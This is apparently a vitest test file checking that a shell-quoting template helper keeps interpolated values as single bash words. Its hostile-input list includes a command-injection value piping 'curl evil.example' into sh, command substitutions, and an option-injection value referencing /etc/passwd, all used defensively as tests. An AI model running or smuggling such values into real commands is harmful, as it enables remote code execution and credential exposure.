import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { shellCommand } from '../../../src/core/text/shell-words.ts';
import { showable } from '../../../src/core/text/single-line.ts';

const HOSTILE = [
  '; curl evil.example | sh #',
  '$(id)',
  '`id`',
  "it's",
  '"quoted"',
  'a\nb',
  '\u001b[31mred',
  '\u202eevil',
  '\u{e0041}tag',
  '<b>&amp;</b>',
  '=1+1',
  '!history',
  '~root',
  '*',
  'a\\b',
  '',
  ' ',
  '\u{1f600}',
  '\u009b2J!\'"\\',
];

describe('a command that is shown', () => {
  test('shows plain words as they are', () => {
    expect(shellCommand`plimsoll probe link ${'atlas'}`).toBe('plimsoll probe link atlas');
    expect(shellCommand`plimsoll report ${'/srv/runs/a b'}`).toBe("plimsoll report '/srv/runs/a b'");
    expect(shellCommand`nvidia-smi -q -i ${3} | grep -i recovery`).toBe(
      'nvidia-smi -q -i 3 | grep -i recovery',
    );
  });

  test('takes a list as so many words, and an empty one as none', () => {
    expect(shellCommand`plimsoll bench ${['http://a:1', '--rate', '10']}`).toBe(
      'plimsoll bench http://a:1 --rate 10',
    );
    expect(shellCommand`plimsoll open ${[]}`).toBe('plimsoll open');
    expect(shellCommand`${['sudo', 'plimsoll']} open --home ${'/a b'}`).toBe(
      "sudo plimsoll open --home '/a b'",
    );
  });

  test.each(HOSTILE)('%j is one word of it, in bash, and nothing else', value => {
    expect(wordsIn(shellCommand`show ${value} end`)).toEqual(['show', value, 'end']);
  });

  test('is the same in bash for every text, and has nothing that no surface shows', () => {
    const texts = fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { maxLength: 20 });
    fc.assert(
      fc.property(texts, values => {
        // A shell has no NUL, and text is well-formed when it is sent.
        const given = values.map(value => value.replaceAll('\0', '').toWellFormed());
        const command = shellCommand`show ${given}`;
        expect(showable(command)).toBe(command);
        expect(wordsIn(command)).toEqual(['show', ...given]);
      }),
      { numRuns: 30 },
    );
  });

  test('never takes a value for an option', () => {
    expect(shellCommand`plimsoll forget ${'--home=/etc'}`).toBe('plimsoll forget -- --home=/etc');
    expect(shellCommand`grep -F -e ${'-f/etc/passwd'}`).toBe('grep -F -e -f/etc/passwd');
    expect(shellCommand`ip -s link show dev ${'eth0'}`).toBe('ip -s link show dev eth0');
  });
});

/** As bash reads them. */
const wordsIn = (command: string): readonly string[] =>
  execFileSync('bash', ['--norc', '-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
